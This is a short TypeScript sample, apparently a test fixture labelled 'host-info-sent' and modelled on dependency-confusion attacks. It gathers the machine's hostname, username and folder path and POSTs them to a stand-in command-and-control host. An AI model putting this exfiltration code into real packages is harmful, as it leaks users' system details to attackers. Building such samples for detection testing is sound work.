// expect: host-info-sent | source: dependency confusion, Birsan 2021
import * as os from "node:os";
import https from "node:https";

const told: string = JSON.stringify({ host: os.hostname(), user: os.userInfo().username, folder: __dirname });
https.request({ hostname: "c2.example.invalid", method: "POST" } as https.RequestOptions).end(told);
